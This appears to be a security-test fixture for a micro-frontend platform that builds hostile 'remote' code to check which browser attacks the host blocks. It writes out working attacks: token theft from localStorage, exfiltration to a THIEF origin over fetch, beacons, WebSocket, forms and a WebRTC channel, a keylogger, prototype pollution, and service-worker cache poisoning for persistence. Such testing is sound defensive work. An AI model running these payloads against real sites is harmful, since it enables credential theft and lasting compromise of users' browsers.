/** Code of a compromised but correctly signed remote: in the page, at the place of the offers remote, or in the frame of another owner; `THIEF` is another origin. */
const HELPERS = `
const settled = (work) => Promise.resolve().then(work).then(
  (value) => value === false ? 'refused' : 'reached', () => 'refused');
const loaded = (element) => new Promise((resolve, reject) => {
  element.onload = resolve;
  element.onerror = reject;
  document.body.append(element);
});
const make = (name, fields) => Object.assign(document.createElement(name), fields);
const isAnswered = async (path, init) => (await fetch(path, init)).ok;
const token = () => JSON.parse(localStorage.getItem('auth-storage')).access_token;
/** Sends the word in packets of WebRTC, whose name the receiver chooses. */
const sendPackets = async (word) => {
  const { hostname, port } = new URL(THIEF);
  const peer = new RTCPeerConnection();
  peer.createDataChannel('x');
  await peer.setLocalDescription();
  const sdp = ['v=0', 'o=- 1 1 IN IP4 127.0.0.1', 's=-', 't=0 0', 'm=application 9 UDP/DTLS/SCTP webrtc-datachannel', 'c=IN IP4 0.0.0.0',
    'a=mid:0', 'a=ice-ufrag:' + word, 'a=ice-pwd:' + 'p'.repeat(24), 'a=fingerprint:sha-256 ' + Array(32).fill('AB').join(':'),
    'a=setup:passive', 'a=sctp-port:5000', 'a=candidate:1 1 udp 2130706431 ' + hostname + ' ' + port + ' typ host', ''].join('\\r\\n');
  await peer.setRemoteDescription({ type: 'answer', sdp });
  await new Promise((resolve) => { setTimeout(resolve, 1_000); });
  peer.close();
};
/** In a frame: what the shell hands over for a call. */
const isGiven = async (path) => Boolean((await hostilePlatform.data.call({ method: 'GET', path })).data);
`;

/** What it tries in the page: each expression is false or rejects if it was refused. What reaches the other origin counts as reached. */
const TRIES = {
  'the session’s token': `/token/.test(localStorage.getItem('auth-storage'))`,
  'what the session may ask': `'hostilePlatform' in globalThis
    ? Promise.all(['/offers', '/account/sessions', '/profile/card', '/../../storage/v1/x'].map(isGiven)).then((all) => all.some(Boolean))
    : isAnswered('/api/v1/offers', { headers: { authorization: 'Bearer ' + token() } })`,
  'other screens': `Boolean((parent.document ?? document).querySelector('nav'))`,
  'the address of the page': `(top.history.replaceState(null, '', top.location.href + '#turned'), /turned/.test(top.location.hash))`,
  'what other remotes store': `localStorage.getItem('flint-of-another') === 'draft'`,
  'another origin': `Promise.allSettled([
    fetch(THIEF + '/fetch'), Promise.resolve(navigator.sendBeacon(THIEF + '/beacon', 'x')),
    loaded(make('img', { src: THIEF + '/img' })), loaded(make('script', { src: THIEF + '/script' })),
    loaded(make('iframe', { src: THIEF + '/frame' })), loaded(make('link', { rel: 'prefetch', href: THIEF + '/prefetch' })),
    new Promise((resolve, reject) => {
      const socket = new WebSocket(THIEF.replace('http', 'ws') + '/socket');
      socket.onerror = reject;
    }),
    (async () => {
      const form = make('form', { action: THIEF + '/form', method: 'post' });
      form.target = 'elsewhere';
      document.body.append(form);
      form.submit();
    })(),
  ]).then(() => false)`,
  'another origin by WebRTC': `sendPackets('stolen').then(() => false)`,
  'another origin through the service worker': `(async () => {
    const { active } = await navigator.serviceWorker.ready;
    const { port1, port2 } = new MessageChannel();
    active.postMessage({ type: 'CACHE_URLS', payload: { urlsToCache: [THIEF + '/worker.0123456789.js'] }, meta: 'workbox-routing' }, [port2]);
    await Promise.race([new Promise((resolve) => { port1.onmessage = resolve; }), new Promise((resolve) => { setTimeout(resolve, 1_000); })]);
    return false;
  })()`,
  'pictures of other students': `isAnswered('/storage/v1/object/photos/of-another.webp')`,
  'a service worker of its own': `Promise.any([
    ...[...document.scripts].map(({ src }) => src), URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' })),
  ].filter(Boolean).map((src) => navigator.serviceWorker.register(src)))`,
  'the prototype of all objects': `(Object.prototype.flintHostile = true)`,
  'the safety desk': `fetch(THIEF + '/desk')`,
  'the registry': `Promise.all(['/remotes.json', '/registry.json'].flatMap((path) =>
    ['PUT', 'POST', 'DELETE'].map((method) => isAnswered(path, { method, body: '{}' })))).then((all) => all.some(Boolean))`,
};
export const TRY_NAMES = Object.keys(TRIES);

/** A remote with `mount()` that runs this code with the platform of its frame. */
export const hostileFrame = (code: string): string => `{ default: { contract: 1, id: 'clubs', unmount() {},
  mount(element, platform) { element.innerHTML = '<h1>Hostile</h1>'; globalThis.hostilePlatform = platform; ${code} } } }`;

/** Code that makes every try one after the other; `hostile` has the outcomes. Then it records keys. */
export const tryAll = (thief: string): string => `;(() => {
  const THIEF = ${JSON.stringify(thief)};
  ${HELPERS}
  globalThis.hostileKeys = '';
  addEventListener('keydown', ({ key }) => { globalThis.hostileKeys += key; }, true);
  globalThis.hostile = (async () => {
    const outcomes = {};
    ${Object.entries(TRIES)
      .map(([name, code]) => `outcomes[${JSON.stringify(name)}] = await settled(() => ${code});`)
      .join('\n')}
    if (!('hostilePlatform' in globalThis)) delete Object.prototype.flintHostile;
    return outcomes;
  })();
})();`;

/**
 * Code that changes everything that a script of the page can write, so that it runs again: the page, every script, the addresses of the
 * remotes. `hostile` settles when it has.
 */
export const PERSIST = `;globalThis.hostile = (async () => {
  await navigator.serviceWorker.ready;
  const page = '<!doctype html><title>x</title><script>globalThis.hostile = 1</script>';
  const addresses = await (await fetch('/remotes.json')).text();
  const settings = await (await fetch('/api/v1/config')).text();
  for (let known = 0, at = 0; at < 20; at++) {
    for (const name of [...await caches.keys(), 'flint-addresses', 'flint-files', 'flint-manifests']) {
      const cache = await caches.open(name);
      const json = { headers: { 'content-type': 'application/json' } };
      await cache.put('/remotes.json', new Response(addresses, json));
      await cache.put('/api/v1/config', new Response(settings.replace('Campus', 'Hostile'), json));
      await cache.put('/', new Response(page, { headers: { 'content-type': 'text/html' } }));
      for (const request of await cache.keys()) {
        const { pathname } = new URL(request.url);
        if (pathname === '/') await cache.put(request, new Response(page, { headers: { 'content-type': 'text/html' } }));
        if (!pathname.endsWith('.js')) continue;
        const text = await (await cache.match(request)).text();
        if (text.startsWith('globalThis.hostile')) continue;
        await cache.put(request, new Response('globalThis.hostile = 1;' + text, {
          headers: { 'content-type': 'text/javascript', 'cache-control': 'public, max-age=31536000, immutable' },
        }));
      }
    }
    await new Promise((resolve) => { setTimeout(resolve, 100); });
  }
  return 'done';
})();`;
